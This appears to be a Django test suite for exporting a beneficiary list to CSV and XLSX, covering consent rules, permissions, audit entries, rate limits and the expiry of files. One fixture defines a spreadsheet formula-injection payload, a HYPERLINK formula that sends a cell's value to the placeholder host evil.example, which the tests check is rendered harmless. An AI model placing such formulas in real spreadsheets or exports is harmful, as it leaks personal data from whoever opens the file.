"""A list taken away: exactly what it shows, names on purpose only, and nothing that a spreadsheet would calculate."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone

from beneficiaries import tasks
from beneficiaries.actions import exports as actions
from beneficiaries.models import Beneficiary, Export
from beneficiaries.resources import exporting
from journal.models import Entry
from programme.models import Posting
from programme.scope import EVERYTHING, scoped
from tests.beneficiaries.people import registered
from tests.cast import register

pytestmark = pytest.mark.django_db
EXPORT, LIST = reverse("beneficiaries:export"), reverse("beneficiaries:list")
EVIL = '=HYPERLINK("http://evil.example/?x="&A2)'
NAMED = {"content": "names", "is_sure": "on"}


@pytest.fixture
def desk(client, officer):
    client.force_login(officer)
    return client


@pytest.fixture
def crowd(partners, areas, officer, fatima, rachid, aissatou):
    """The officer's: Fatima, a man, somebody who refused, and somebody whose name is a formula."""
    place = (partners.aideca, areas.khouribga)
    karim = register(*place, "Tazi", "Karim", sex="M", arabic_name="كريم التازي")
    refused = registered(*place, by=officer, sex="F", consent="no")
    evil = register(*place, EVIL, "@SUM(A1)", sex="F", email="evil@example.org")
    return {"fatima": fatima, "karim": karim, "refused": refused, "evil": evil}


def asked(client, query="", **said):
    answer = client.post(f"{EXPORT}{query}", {"format": "csv", "content": "codes"} | said)
    assert answer.status_code == 302, answer.context["form"].errors
    tasks.write_export(int(answer.url.rstrip("/").rpartition("/")[2]))
    return Export.objects.latest("id")


def content_of(client, export):
    answer = client.get(reverse("beneficiaries:download", args=[export.pk]))
    assert answer.status_code == 200
    return answer.getvalue()


def rows_of(client, export):
    data = content_of(client, export)
    if export.format == "csv":
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True)]


def codes_in(client, export):
    return [row[0] for row in rows_of(client, export)[1:]]


QUERIES = ["", "?sex=M", "?group=TG1_RETURNEE&sort=code", "?consent=no", "?sort=name"]


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_the_file_holds_what_the_list_shows_in_its_order(format, desk, crowd, subtests):
    for query in QUERIES:
        with subtests.test(query):
            shown = [row.code for row in desk.get(LIST + query).context["page"].rows]

            export = asked(desk, query, format=format)

            assert codes_in(desk, export) == shown
            assert (export.rows, export.left_out, export.people) == (len(shown), 0, [])


def test_a_search_is_taken_away_without_its_words(desk, crowd):
    address = desk.post(LIST, {"q": "tazi karim"}).url

    export = asked(desk, address.removeprefix(LIST))

    assert codes_in(desk, export) == [crowd["karim"].code]
    entry = Entry.objects.get(act="export")
    assert set(entry.details) == {"format", "content", "rows", "filters"}
    assert (entry.details["rows"], len(entry.details["filters"]), entry.label) == (1, 64, export.code)
    assert "tazi" not in str(entry.details)


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_without_names_nobody_is_named_and_the_vault_is_not_read(format, desk, crowd):
    text = content_of(desk, asked(desk, format=format))
    if format == "xlsx":
        text = str(rows_of(desk, Export.objects.latest("id"))).encode()
    for name in ("El Amrani", "Tazi", "HYPERLINK", "evil@example.org", "+2126"):
        assert name.encode() not in text


def test_with_names_whoever_refused_is_left_out_and_counted(desk, crowd):
    export = asked(desk, **NAMED)

    rows = rows_of(desk, export)
    assert crowd["refused"].code not in {row[0] for row in rows}
    assert (export.rows, export.left_out) == (3, 1)
    [karim] = [row for row in rows if row[0] == crowd["karim"].code]
    assert karim[1:4] == ["Tazi", "Karim", "كريم التازي"]
    assert Entry.objects.get(act="export").details["content"] == "names"


def test_consent_taken_back_while_the_file_waits_keeps_the_name_out_of_it(desk, crowd, officer):
    answer = desk.post(EXPORT, {"format": "csv", **NAMED})
    with scoped(EVERYTHING):
        Beneficiary.objects.filter(pk=crowd["karim"].pk).update(consent="no")

    export = Export.objects.get()
    tasks.write_export(export.pk)

    assert answer.status_code == 302
    assert "Tazi" not in content_of(desk, export).decode()


def test_names_are_a_second_choice(desk, crowd):
    page = desk.get(EXPORT)
    assert page.context["form"]["content"].value() == "codes"

    refused = desk.post(EXPORT, {"format": "csv", "content": "names"})

    assert list(refused.context["form"].errors) == ["is_sure"]
    assert not Export.objects.exists()


def test_who_may_not_take_names_away_is_not_offered_them(client, grants_manager, crowd):
    client.force_login(grants_manager)

    assert "is_sure" not in client.get(EXPORT).context["form"].fields
    assert client.post(EXPORT, {"format": "csv", **NAMED}).status_code == 200
    assert not Export.objects.exists()
    assert len(codes_in(client, asked(client))) == 6


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_a_name_that_is_a_formula_stays_text(format, desk, crowd):
    export = asked(desk, format=format, **NAMED)
    data = content_of(desk, export)
    if format == "csv":
        [row] = [row for row in rows_of(desk, export) if row[0] == crowd["evil"].code]
        assert row[1] == f"'{EVIL}" and row[2] == "'@SUM(A1)"
        assert not [cell for row in rows_of(desk, export) for cell in row if cell[:1] in "=+-@\t\r" and cell]
        return
    cells = [cell for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
    assert EVIL in {cell.value for cell in cells}
    assert not [cell for cell in cells if cell.data_type == "f"]


# --- Whose file it is -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["manager", "coordinator", "stranger"])
def test_a_file_is_for_whoever_asked_for_it_alone(role, desk, crowd, client, request):
    export = asked(desk)
    client.force_login(request.getfixturevalue(role))

    for name in ("exported", "download"):
        assert client.get(reverse(f"beneficiaries:{name}", args=[export.pk])).status_code == 404


def test_who_sees_other_people_now_has_to_export_again(desk, crowd, officer, areas):
    export = asked(desk)
    Posting.objects.filter(user=officer).update(area=areas.oujda)

    assert desk.get(reverse("beneficiaries:download", args=[export.pk])).status_code == 404


def test_who_became_a_grants_manager_takes_the_names_that_were_asked_for_no_more(desk, crowd, officer):
    named, codes = asked(desk, **NAMED), asked(desk)
    Posting.objects.filter(user=officer).update(role="grants_manager")

    answers = [desk.get(reverse("beneficiaries:download", args=[export.pk])).status_code for export in (named, codes)]

    assert answers == [403, 200]


def test_whom_its_owner_no_longer_sees_is_not_written(desk, crowd, officer, areas):
    desk.post(EXPORT, {"format": "csv", **NAMED})
    Posting.objects.filter(user=officer).update(area=areas.oujda)

    export = Export.objects.get()
    tasks.write_export(export.pk)
    export.refresh_from_db()

    assert (export.rows, export.left_out) == (0, 4)


def test_whose_posting_ends_while_the_file_is_written_gets_nothing_more(desk, crowd, officer, monkeypatch):
    monkeypatch.setattr(exporting, "AT_ONCE", 1)
    desk.post(EXPORT, {"format": "csv", "content": "codes"})
    export = Export.objects.select_related("created_by").get()
    chunks = tasks._chunks(export, Export.objects.filter(pk=export.pk))

    first = next(chunks)
    Posting.objects.filter(user=officer).update(until=timezone.localdate() - timedelta(days=1))

    assert (len(first), list(chunks)) == (1, [[], [], []])


def test_a_download_is_written_down(desk, crowd, officer):
    export = asked(desk)
    content_of(desk, export)
    assert [entry.act for entry in Entry.objects.about(export)] == ["download", "finish", "export"]
    assert Entry.objects.get(act="download").by == officer


# --- The work -------------------------------------------------------------------------------------------------------


def test_the_page_tells_of_the_work_and_then_offers_the_file(desk, crowd):
    address = desk.post(EXPORT, {"format": "csv", "content": "codes"}).url
    assert desk.get(address).context["is_running"]
    assert desk.get(address, headers={"hx-request": "true"}).status_code == 200

    tasks.write_export(Export.objects.get().pk)

    assert desk.get(address, headers={"hx-request": "true"}).headers["HX-Refresh"] == "true"
    assert reverse("beneficiaries:download", args=[Export.objects.get().pk]) in desk.get(address).content.decode()


def test_written_once_it_is_not_written_again(desk, crowd):
    export = asked(desk)
    tasks.write_export(export.pk)
    assert Export.objects.get().file == export.file
    assert Entry.objects.filter(act="finish").count() == 1


def test_what_kills_its_worker_every_time_is_given_up(desk, crowd):
    desk.post(EXPORT, {"format": "csv", "content": "codes"})
    Export.objects.update(attempts=tasks.ATTEMPTS)
    export = Export.objects.get()

    tasks.write_export(export.pk)

    export.refresh_from_db()
    assert (export.status, export.people) == ("failed", [])
    assert desk.get(export.get_absolute_url()).status_code == 200


def test_some_days_later_the_file_is_gone(desk, crowd, django_capture_on_commit_callbacks):
    export = asked(desk)
    tasks.forget_exports()
    assert default_storage.exists(Export.objects.get().file.name)

    Export.objects.update(created_at=timezone.now() - tasks.EXPORT_KEPT - timedelta(minutes=1))
    with django_capture_on_commit_callbacks(execute=True):
        tasks.forget_exports()

    assert not default_storage.exists(export.file.name)
    assert desk.get(reverse("beneficiaries:download", args=[export.pk])).status_code == 404
    assert desk.get(export.get_absolute_url()).status_code == 200


def test_a_file_that_is_lost_is_not_found(desk, crowd):
    export = asked(desk)
    export.file.storage.delete(export.file.name)

    assert desk.get(reverse("beneficiaries:download", args=[export.pk])).status_code == 404


def test_a_list_that_is_too_long_is_refused_in_a_sentence(desk, crowd, monkeypatch):
    monkeypatch.setattr(actions, "MOST", 2)
    page = desk.post(EXPORT, {"format": "csv", "content": "codes"})
    assert page.context["form"].non_field_errors()
    assert not Export.objects.exists()


def test_the_list_leads_there_with_its_filters(desk, crowd):
    assert f'href="{EXPORT}?sex=M"' in desk.get(f"{LIST}?sex=M&page=1").content.decode()
    assert EXPORT not in desk.get(f"{LIST}?since=2040-01-01").content.decode()


def test_who_takes_away_too_much_waits(desk, crowd, settings):
    settings.RATE_LIMITS = {"export": "1/m/user"}
    asked(desk)
    assert desk.get(f"{EXPORT}?sex=M").status_code == 200
    assert desk.post(EXPORT, {"format": "csv", "content": "codes"}).status_code == 429


def test_courses_are_taken_away_as_they_are_shown(desk, own_course, foreign_partner_course, settings):
    own_course.place, own_course.group = EVIL, "-1"
    own_course.save()
    address = reverse("trainings:export")
    assert f'href="{address}' in desk.get(reverse("trainings:list")).content.decode()

    answer = desk.get(address)

    book = openpyxl.load_workbook(io.BytesIO(answer.getvalue()))
    rows = [list(row) for row in book.active.iter_rows()]
    assert [row[0].value for row in rows[1:]] == [own_course.code]
    assert [cell.value for cell in rows[1][2:4]] == [EVIL, "-1"]
    assert [cell.value for cell in rows[1][-3:]] == [2, 1, 1]
    assert {cell.data_type for cell in rows[1]} <= {"s", "n", "d"}
    assert Entry.objects.get(act="export").details["rows"] == 1
    settings.RATE_LIMITS = {"export": "0/m/user"}
    assert desk.get(address).status_code == 429
